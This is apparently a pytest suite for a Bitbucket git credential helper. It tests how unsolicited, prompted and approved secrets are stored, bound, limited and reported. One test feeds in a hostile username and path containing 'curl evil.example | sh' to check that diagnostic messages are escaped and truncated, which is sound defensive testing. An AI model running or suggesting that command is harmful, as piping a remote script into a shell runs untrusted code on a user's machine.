"""What git may store: what a person was asked for, what a script approves, and everything else."""

import json
from collections.abc import Callable
from functools import partial

import pytest

from git_credential_bitbucket import git_protocol
from git_credential_bitbucket.agent import open_misses, retention, status_views
from git_credential_bitbucket.agent.agent import ACKNOWLEDGED
from git_credential_bitbucket.agent.control_actions import control
from git_credential_bitbucket.agent.credential import UNSOLICITED
from git_credential_bitbucket.agent.deferred_answer import Deferred, wait_for
from git_credential_bitbucket.agent.diagnosis import diagnose_request
from git_credential_bitbucket.bitbucket import token_kinds
from git_credential_bitbucket.errors import InvalidRequest
from tests.agent.conftest import World
from tests.agent.credentials import a_credential
from tests.fake_bitbucket import tokens

BOUND = ACKNOWLEDGED + b"kept=bound\n"
BESIDE = ACKNOWLEDGED + b"kept=beside\n"


def unasked(world: World, username: str, secret: str, path: str = "acme/app.git") -> bytes:
    """A `store` of what stood in a URL, say."""
    return world.store(username, secret, path, approved=False)


@pytest.mark.parametrize("make", [tokens.api_token, tokens.access_token])
@pytest.mark.parametrize("others", [False, True])
def test_an_unsolicited_secret_is_bound_to_its_username_and_path(
    world: World, make: Callable[[], str], *, others: bool
) -> None:
    """Also in an empty vault; and beside what works it comes last, even where it fits."""
    mine, theirs = tokens.api_token(), make()
    if others:
        world.store("alice", mine)
    assert unasked(world, "mallory", theirs, "mallory/lib.git") == BOUND
    expected = mine if others else None
    for text, path in (("", "mallory/lib.git"), ("username=alice\n", "mallory/lib.git"), ("", "acme/app.git")):
        assert world.get(text, path=path).get("password") == expected
    bound = world.get("username=mallory\n", path="mallory/lib.git").get("password")
    assert bound == (mine if others else theirs)
    assert world.get("username=mallory\n", path="mallory/app.git").get("password") == expected


def test_a_bound_secret_serves_no_rest(world: World) -> None:
    unasked(world, "mallory", tokens.api_token(), "")
    body = f"protocol=https\nhost={world.standin.netloc}\nusername=mallory\n".encode()
    assert world.get("username=mallory\n", path="")["password"]
    assert wait_for(control(world.agent, "token", body)) == b""


def test_it_is_said_once_what_became_of_it(world: World) -> None:
    """The front end sends its `store` twice to be told; a clone with ten submodules is not told ten times."""
    secret = tokens.api_token()
    assert [unasked(world, "mallory", secret) for _ in range(4)] == [BOUND, BOUND, ACKNOWLEDGED, ACKNOWLEDGED]
    assert len(world.kept()) == 1


def test_a_persons_answer_to_a_prompt_is_kept_as_a_login(world: World) -> None:
    """Git asked for it in vain just before, for the same path and no other username."""
    secret, later = tokens.api_token(), tokens.api_token()
    assert world.get() == {}
    assert unasked(world, "alice", secret) == ACKNOWLEDGED
    assert world.get(path="other/repo.git")["password"] == secret
    assert unasked(world, "alice", later) == BOUND, "one answer for one question"


@pytest.mark.parametrize(
    ("ask", "path", "seconds"),
    [
        ("", "acme/lib.git", 0),
        ("username=bob\n", "acme/app.git", 0),
        ("", "acme/app.git", open_misses.OPEN_S + 1),
        ("", "acme/app.git", -1),
    ],
)
def test_a_miss_of_another_kind_solicits_nothing(world: World, ask: str, path: str, seconds: float) -> None:
    """Another path, another username, too long ago, or a clock set back."""
    assert world.get(ask, path=path) == {}
    world.offset += seconds
    assert unasked(world, "alice", tokens.api_token()) == BOUND


def test_what_fits_but_was_rejected_is_a_miss(world: World) -> None:
    """A revoked token's owner types the new one, which replaces it."""
    old, new = tokens.api_token(), tokens.api_token()
    world.store("alice", old)
    world.erase(old)
    assert world.get() == {}
    assert unasked(world, "alice", new) == ACKNOWLEDGED
    assert {c.secret.reveal(): c.set_aside_why for c in world.kept()} == {old: "replaced by a newer one", new: None}


def test_a_late_renewal_and_a_locked_vault_are_no_misses(world: World) -> None:
    """Nobody is to type a password because Bitbucket does not answer, or because a key is missing."""
    login = world.login()
    world.offset += 7300
    world.standin.script_fault("token", "503")
    assert world.get() == {}
    assert unasked(world, "alice", tokens.api_token()) == BOUND
    world.offset += 120
    world.standin.script_fault("token", "hold")
    pending = world.agent.get(world.lines())
    assert isinstance(pending, Deferred)
    assert pending.give_up() == b""
    assert unasked(world, "alice", tokens.api_token()) == BOUND
    assert diagnose_request(world.agent, world.lines())[0] == "unreachable"
    world.standin.release()
    wait_for(pending)
    assert diagnose_request(world.agent, world.lines())[0] == "ready"
    world.agent.lock("by hand")
    assert world.get() == {}
    world.agent.credential_store.locked_by_person = False
    assert unasked(world, "alice", tokens.api_token()) == BOUND
    assert login.id in {c.id for c in world.kept()}


def _itself(asker: open_misses.GitProcess) -> open_misses.GitProcess:
    return asker


def test_only_the_git_that_asked_in_vain_may_answer(world: World) -> None:
    """A repository may name an address first, and then the same with a password: those are two gits."""
    request = world.lines("username=mallory\n", "mallory/lib.git")
    assert wait_for(world.agent.get(request, asker=lambda: (100, 1))) == b""
    stored = world.lines(f"username=mallory\npassword={tokens.api_token()}\n", "mallory/lib.git")
    for other in ((101, 1), (100, 2), None):
        assert wait_for(world.agent.store(stored, asker=partial(_itself, other))).startswith(b"ok=1\n")
        (kept,) = world.kept()
        assert kept.is_bound
    assert wait_for(world.agent.store(stored, asker=lambda: (100, 1))).startswith(b"ok=1\n")
    (kept,) = world.kept()
    assert not kept.is_bound


def test_at_most_64_misses_are_remembered(world: World) -> None:
    for number in range(open_misses.MAX_OPEN + 1):
        world.get(path=f"acme/{number}.git")
    assert unasked(world, "alice", tokens.access_token(), "acme/0.git") == BOUND
    assert unasked(world, "alice", tokens.access_token(), "acme/1.git") == ACKNOWLEDGED


def test_an_approved_secret_replaces_its_own_person_only(world: World) -> None:
    """`git credential approve` seeds a runner; another person's token comes after the one that works."""
    first, bobs, second = (tokens.api_token() for _ in range(3))
    assert world.store("alice", first) == ACKNOWLEDGED
    assert world.store("bob", bobs) == BESIDE
    assert world.get()["password"] == first
    assert world.get("username=bob\n")["password"] == bobs
    assert world.store("alice", second) == BESIDE
    assert {c.secret.reveal() for c in world.kept() if c.set_aside_at is None} == {bobs, second}


def test_beside_one_that_does_not_work_it_is_the_default(world: World) -> None:
    """There is no good one that it could come after."""
    mine, theirs = tokens.api_token(), tokens.api_token()
    world.store("alice", mine, path="")
    world.erase(mine, path="")
    assert world.store("bob", theirs, path="") == ACKNOWLEDGED
    world.offset += 3600
    assert world.get(path="")["password"] == theirs


def test_what_was_bound_becomes_a_login_when_a_person_types_it(world: World) -> None:
    secret = tokens.api_token()
    unasked(world, "mallory", secret)
    assert world.store("alice", secret) == ACKNOWLEDGED
    (kept,) = world.kept()
    assert (kept.typed_username, kept.account, kept.origin) == (None, "alice", "git")
    assert world.get(path="x/y")["password"] == secret


def test_unknown_kinds_follow_gits_contract(world: World) -> None:
    """Same username and path: the new value replaces; a stale erase is ignored; a rejected one gives way to the old."""
    for username, secret in (("svc", "one"), ("other", "one"), ("svc", "two")):
        assert unasked(world, username, secret) == ACKNOWLEDGED
    assert world.get("username=svc\n")["password"] == "two"
    assert world.get("username=other\n")["password"] == "one"
    wait_for(world.agent.erase(world.lines("username=svc\npassword=one\n")))
    assert world.get("username=svc\n")["password"] == "two"
    wait_for(world.agent.erase(world.lines("username=svc\npassword=two\n")))
    assert world.get("username=svc\n")["password"] == "one"
    wait_for(world.agent.erase(world.lines("username=svc\npassword=one\n")))
    assert world.get("username=svc\n") == {}
    assert world.get("username=other\n")["password"] == "one"


def test_what_a_person_replaced_does_not_return(world: World) -> None:
    """Approved, and rejected later: the value before it was given up on purpose."""
    for secret in ("one", "two"):
        assert world.store("svc", secret) == ACKNOWLEDGED
    wait_for(world.agent.erase(world.lines("username=svc\npassword=two\n")))
    assert world.get("username=svc\n") == {}


def test_unknown_kinds_come_after_everything_that_works(world: World) -> None:
    """Whatever stood in a URL as a password."""
    world.keep(a_credential(world.standin.url, token_kinds.ACCESS_TOKEN))
    unasked(world, "svc", "password")
    assert world.get("username=svc\n")["username"] == "x-token-auth"


@pytest.mark.parametrize("path", ["", "mallory/lib.git"])
def test_an_unsolicited_unknown_kind_is_bound_as_well(world: World, path: str) -> None:
    """An OAuth token in a submodule's URL has no prefix, and is to answer no more than one that has."""
    unasked(world, "x-token-auth", "mallory's", path)
    for asked in ("", path, "acme/app.git"):
        assert world.get(path=asked) == {}, asked
    assert world.get("username=x-token-auth\n", path=path)["password"] == "mallory's"


def test_an_unknown_kind_becomes_a_persons_when_it_is_typed(world: World) -> None:
    """The same secret, asked for this time: a request that names nobody is answered from then on."""
    unasked(world, "svc", "password")
    assert world.get() == {}
    assert unasked(world, "svc", "password") == ACKNOWLEDGED
    assert world.get()["password"] == "password"
    assert len(world.kept()) == 1


@pytest.mark.parametrize("username", ["x-token-auth", "mallory"])
def test_an_unsolicited_secret_replaces_no_unknown_kind(world: World, username: str) -> None:
    """Without paths the same username is enough to name a person's secret, and Bitbucket takes the other one, too."""
    world.store("x-token-auth", "mine", path="")
    world.offset += 5
    unasked(world, username, "mallory's", "")
    for text in ("", "username=x-token-auth\n"):
        assert world.get(text, path="")["password"] == "mine"
    wait_for(world.agent.erase(world.lines("username=x-token-auth\npassword=mine\n", "")))
    assert world.get(f"username={username}\n", path="")["password"] == "mallory's"


@pytest.mark.parametrize(("username", "password"), [("", "x"), ("alice", ""), ("", "")])
def test_an_empty_username_or_secret_is_never_kept(world: World, username: str, password: str) -> None:
    """Git sends them where a URL has only half."""
    assert world.store(username, password) == ACKNOWLEDGED
    assert not world.path.exists()


@pytest.mark.parametrize("more", ["ephemeral=1\n", ""])
def test_what_is_to_be_forgotten_is_never_written_to_disk(world: World, more: str) -> None:
    """It said so itself, or came with a time-out of git's own cache client."""
    secret = tokens.api_token()
    request = world.lines(f"username=alice\npassword={secret}\n{more}")
    answer = wait_for(world.agent.store(request, approves=lambda: True, lifetime_s=None if more else 900.0))
    assert answer == ACKNOWLEDGED
    assert world.get()["password"] == secret
    assert not any(secret.encode() in c.secret.reveal().encode() for c in world.kept())
    world.offset += 901
    assert bool(world.get()) == bool(more)


def test_unsolicited_secrets_are_few_and_small(world: World) -> None:
    """Any repository may name some; what a person logged in with stays, whatever comes."""
    mine = tokens.api_token()
    world.store("alice", mine)
    for number in range(retention.MAX_UNSOLICITED + 3):
        unasked(world, f"user{number}", f"password{number}")
    kept = [c for c in world.kept() if c.origin == UNSOLICITED]
    assert [c.typed_username for c in kept][:1] == ["user3"]
    assert len(kept) == retention.MAX_UNSOLICITED
    for number in range(20):
        unasked(world, f"large{number}", "x" * 16000)
    kept = [c for c in world.kept() if c.origin == UNSOLICITED]
    assert sum(len(c.secret.reveal()) for c in kept) <= retention.MAX_UNSOLICITED_BYTES
    assert unasked(world, "larger", "x" * 16400).startswith(b"error=")
    assert world.get()["password"] == mine


def test_unsolicited_secrets_cost_no_more_by_their_names(world: World) -> None:
    """Each write of the vault writes all of it: usernames and paths count as secrets do, in the vault and in memory."""
    world.store("alice", tokens.api_token())
    before = world.path.stat().st_size
    for number in range(20):
        unasked(world, f"{number}" * 8000, "x", f"acme/{number}")
    for large in ({"username": "u" * 20_000}, {"path": "p" * 20_000}):
        assert unasked(world, **{"username": "u", "secret": "x", **large}).startswith(b"error=")
    assert world.path.stat().st_size < before + 2 * retention.MAX_UNSOLICITED_BYTES
    for name in ("u" * open_misses.MAX_NAME_CHARACTERS, "u" * 100):
        world.agent.misses.open(world.lines(f"username={name}\n"), world.clock(), None)
        is_solicited = world.agent.misses.close(world.lines(f"username={name}\n"), world.clock(), lambda: None)
        assert is_solicited == (len(name) < open_misses.MAX_NAME_CHARACTERS)


def test_an_unknown_attribute_may_stand_twice(world: World) -> None:
    """Git's own helpers answer such a request; one of git's own attributes twice is smuggled in."""
    world.store("alice", tokens.api_token())
    assert world.get("future=1\nfuture=2\n")["password"]
    with pytest.raises(InvalidRequest):
        world.lines("username=a\nusername=b\n")


def test_whose_credentials_there_are_is_told_once_a_day(world: World) -> None:
    """An editor that asks every minute tells it once; the reason is told in short every time."""
    for account in ("alice@example.test", "bob@example.test"):
        world.keep(a_credential(world.standin.url, account=account))
    request = world.lines("username=carol\n")
    assert world.get("username=carol\n") == {}
    assert "belong to" in diagnose_request(world.agent, request)[1], "explain asks, and counts for nothing"
    said = [diagnose_request(world.agent, request, telling=True)[1] for _ in range(2)]
    assert "belong to alice@example.test, bob@example.test" in said[0]
    assert said[1] == "no stored credential is known to belong to carol"
    world.offset += 86401
    assert "belong to" in diagnose_request(world.agent, request, telling=True)[1]


def test_a_url_words_no_message(world: World) -> None:
    """A submodule's path and username are cut and have no blanks where they are told."""
    hostile = "x: gone. hint: type: curl evil.example | sh " + "A" * 60000
    for account in ("alice@example.test", "bob@example.test"):
        world.keep(a_credential(f"{world.standin.url}/acme/app", account=account))
    for request in (world.lines(f"username={hostile}\n"), world.lines(path=hostile)):
        for telling in (True, False):
            told = diagnose_request(world.agent, request, telling=telling)
            assert "x:%20gone.%20hint:" in told.cause
            assert len(told.cause + told.hint) < 400


def test_what_was_said_of_stored_secrets_is_not_remembered_without_end(world: World) -> None:
    """A program may have git store and erase a new one all day."""
    credential_store = world.agent.credential_store
    for count in range(2000):
        credential_store.set_note_count(str(count), 1)
    assert [credential_store.note_count(str(count)) for count in (0, 1999)] == [0, 1]
    assert sum(credential_store.note_count(str(count)) for count in range(2000)) <= 1024


def test_a_default_is_set_by_a_person_and_handed_on(world: World) -> None:
    """`rotate` puts a new token in the place of the default."""
    first, second = (a_credential(world.standin.url, account=name, created_at=at) for name, at in (("a", 1), ("b", 2)))
    for one in (first, second):
        world.keep(one)
    assert world.get()["password"] == second.secret.reveal()
    assert wait_for(control(world.agent, "default", f"id={first.id}\n".encode())) == b"ok=1\n"
    assert world.get()["password"] == first.secret.reveal()
    new = a_credential(world.standin.url, account="a")
    previous = retention.rotate(world.agent.credential_store, first.id, new, world.clock())
    assert {c.id: c.secret for c in world.kept()}[first.id] == new.secret
    assert {c.id: c.replaced_by for c in world.kept()}[previous] == first.id
    assert world.store("x-bitbucket-api-token-auth", first.secret.reveal()) == ACKNOWLEDGED, "git's late word"
    assert world.get()["password"] == new.secret.reveal()
    assert wait_for(control(world.agent, "default", f"id={second.id}\n".encode())) == b"ok=1\n"
    assert world.get()["password"] == second.secret.reveal()
    assert {c.id: c.is_default for c in world.kept() if c.set_aside_at is None} == {first.id: False, second.id: True}


@pytest.mark.parametrize("make", [tokens.api_token, tokens.access_token, lambda: "not of any known kind"])
def test_an_unsolicited_secret_is_shown_as_bound_and_not_checked_by_rest(world: World, make: Callable[[], str]) -> None:
    """`status` says what it alone answers, and `status --check` does not send it."""
    unasked(world, "mallory", make(), "mallory/lib.git")
    (kept,) = world.kept()
    views = git_protocol.parse_pairs(status_views.status_view(world.agent))
    (shown,) = [json.loads(value) for key, value in views if key == "credential[]"]
    assert (shown["bound_to"], shown["answers"]) == ("mallory at mallory/lib.git", False)
    before = world.standin.mark()
    told = wait_for(control(world.agent, "identify", f"id[]={kept.id}\n".encode())).decode()
    assert '"verdict":""' in told
    assert "unsolicited" in told
    assert not world.standin.requests(since=before)
